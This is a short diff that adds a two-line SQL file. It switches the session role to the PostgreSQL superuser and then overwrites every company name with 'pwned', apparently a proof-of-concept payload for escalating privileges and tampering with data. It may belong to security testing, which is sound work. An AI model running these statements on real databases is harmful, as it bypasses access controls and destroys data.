@@ -1,0 +1,2 @@
+SELECT set_config('role', 'postgres', false);
+UPDATE public.companies SET name = 'pwned';
